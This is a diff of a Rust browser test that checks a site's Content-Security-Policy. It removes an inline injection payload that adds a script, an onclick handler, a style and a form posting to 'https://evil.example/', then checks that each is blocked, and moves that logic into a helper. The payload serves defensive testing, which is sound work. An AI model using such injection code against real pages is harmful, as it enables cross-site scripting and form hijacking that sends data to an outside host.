@@ -1,46 +1,14 @@
 //! No page brings a script, and none runs that somebody else brings; a form goes where it may. N10, H1.
 
-use e2e::browser::PATIENCE;
-use e2e::{USER, wait};
-use serde_json::json;
+use e2e::{USER, injected};
 
 use super::Scene;
 
-/// Puts into the page what an attacker could, had the server not escaped something.
-const INJECT: &str = "window.violated = [];
-    document.addEventListener('securitypolicyviolation', e => window.violated.push(e.effectiveDirective));
-    const script = document.createElement('script');
-    script.textContent = 'window.injected = true';
-    document.head.append(script);
-    const link = document.createElement('a');
-    link.setAttribute('onclick', 'window.clicked = true');
-    document.body.append(link);
-    link.click();
-    const style = document.createElement('style');
-    style.textContent = 'body { opacity: 0.5 }';
-    document.head.append(style);
-    const form = document.createElement('form');
-    form.action = 'https://evil.example/';
-    form.method = 'post';
-    document.body.append(form);
-    form.submit();";
-
-/// Nothing of it takes effect on the page that is shown.
+/// The page that is shown has no script, and runs none.
 async fn nothing_foreign_runs(scene: &Scene, what: &str) {
-    let browser = &scene.browser;
     scene.is_content().await;
-    assert_eq!(browser.js("return document.scripts.length").await, 0, "{what} has scripts");
-    browser.js(INJECT).await;
-    let wanted = ["script-src-elem", "script-src-attr", "style-src-elem", "form-action"];
-    wait::until("each is reported", PATIENCE, async || {
-        let violated = browser.js("return window.violated").await;
-        let all: Vec<&str> = violated.as_array()?.iter().filter_map(serde_json::Value::as_str).collect();
-        wanted.iter().all(|name| all.contains(name)).then_some(())
-    })
-    .await;
-    let took_effect = "return [window.injected, window.clicked, getComputedStyle(document.body).opacity]";
-    assert_eq!(browser.js(took_effect).await, json!([null, null, "1"]), "{what}");
-    browser.complaints().await;
+    assert_eq!(scene.browser.js("return document.scripts.length").await, 0, "{what} has scripts");
+    injected::takes_no_effect(&scene.browser, what).await;
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 1)]
